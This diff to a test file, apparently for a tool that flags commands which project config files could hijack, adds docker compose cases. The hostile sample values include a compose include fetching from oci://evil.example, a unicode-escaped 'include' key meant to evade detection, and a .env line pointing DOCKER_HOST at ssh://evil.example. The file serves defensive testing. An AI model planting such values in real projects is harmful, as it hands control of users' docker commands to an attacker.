@@ -56,6 +56,10 @@ describe("a file of the project that a program obeys", () => {
     ["npm run", "package.json", "{}", '{"devEngines":{"packageManager":{"name":"npm","version":"11"}}}'],
     ["tsc -v", "package.json", '{"devDependencies":{"volta":"1"}}', '{"vol\\u0074a":{"node":"18.0.0"}}'],
     ["npm -v", "package.json", "{}", "{"],
+    ["docker compose ps", "compose.yaml", "services: {}\n", "include:\n  - oci://evil.example/x\n"],
+    ["docker compose config", "docker-compose.yml", "services: {}\n", '{"incl\\u0075de":["x.yml"]}'],
+    ["docker compose -f x.yml ps", "x.yml", "services: {}\n", "services: {a: {extends: {file: b.yml}}}\n"],
+    ["docker compose logs web", ".env", "COMPOSE_PROJECT_NAME=x\nPORT=1\n", "DOCKER_HOST=ssh://evil.example\n"],
   ])("allows %s while %s says nothing harmful", (command, file, harmless, harmful) => {
     expect(reasonAgainst(command, { files: { [file]: harmless } })).toBeUndefined();
     expect(reasonAgainst(command, { files: { [file]: harmful } })).toContain(file);
